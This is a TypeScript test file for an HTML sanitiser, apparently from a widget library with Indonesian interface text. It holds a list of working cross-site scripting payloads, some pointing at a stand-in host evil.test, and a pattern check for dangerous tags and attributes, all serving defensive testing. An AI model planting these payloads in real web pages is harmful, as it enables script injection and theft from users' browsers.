import "./dom";
import assert from "node:assert/strict";
import { test } from "node:test";
import { sanitise, sanitiseInline } from "../src/widgets/sanitise";

const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
  "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='jAvA\tscript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
  "<form action=https://evil.test><input name=pin><button formaction=javascript:alert(1)>x</button></form>",
  "<base href=https://evil.test/><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<style>@import url(//evil.test/x.css)</style><link rel=stylesheet href=//evil.test/x.css>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  "<x-y onpointerdown=alert(1)>x</x-y>",
];

function assertHarmless(html: string, payload: string): void {
  const box = document.implementation.createHTMLDocument("").createElement("div");
  box.innerHTML = html;
  for (const node of box.querySelectorAll("*")) {
    const name = node.localName;
    assert.ok(!/^(script|iframe|object|embed|form|input|base|meta|link|style|template|foreignobject|animate)$/i.test(name), `${payload} leaves <${name}>`);
    for (const { name: attribute, value } of [...node.attributes]) {
      assert.ok(!/^on|^srcdoc$|^formaction$/i.test(attribute), `${payload} leaves ${attribute}`);
      assert.ok(!/^[\s\0-\x1f]*j[\s]*a[\s]*v[\s]*a[\s]*s[\s]*c/i.test(value), `${payload} leaves ${attribute}=${value}`);
      assert.ok(!/^data:text\/html/i.test(value), `${payload} leaves ${attribute}=${value}`);
    }
  }
}

test("nothing that could run is left of hostile HTML", () => {
  for (const payload of HOSTILE) {
    for (const clean of [sanitise, sanitiseInline]) assertHarmless(clean(payload), payload);
    assertHarmless(sanitise(sanitise(payload)), payload);
  }
});

test("what our tools show is left as it is", () => {
  for (const html of [
    '<div class="nk-note nk-good" role="status"><p><span class="nk-sign">✓</span> Betul &amp; rapi</p></div>',
    '<table class="nk-table"><caption>Harga</caption><thead><tr><th scope="col">Kanal</th></tr></thead><tbody><tr><th scope="row">Chat</th><td class="nk-number">8%</td></tr></tbody></table>',
    '<figure class="nk-figure"><svg viewBox="0 0 10 10" role="img" aria-label="Harga"><title>t</title><rect x="0" y="0" width="5" height="5" fill="#0f6b52"></rect><text x="1" y="2" text-anchor="end">Rp</text></svg><figcaption>x</figcaption></figure>',
    '<details class="nk-sources"><summary>Dari mana</summary><p>x</p></details>',
    '<button type="button" class="nk-copy" data-done="Tersalin">Salin</button>',
    '<a class="nk-save" download="rencana.txt" href="data:text/plain;charset=utf-8,Halo">Simpan</a>',
  ]) {
    assert.equal(sanitise(html), html);
  }
});

test("a line of text keeps its marks and loses its blocks", () => {
  assert.equal(sanitiseInline("<b>Untung</b> <i>bersih</i><table><tr><td>x</td></tr></table>"), "<b>Untung</b> <i>bersih</i>x");
});
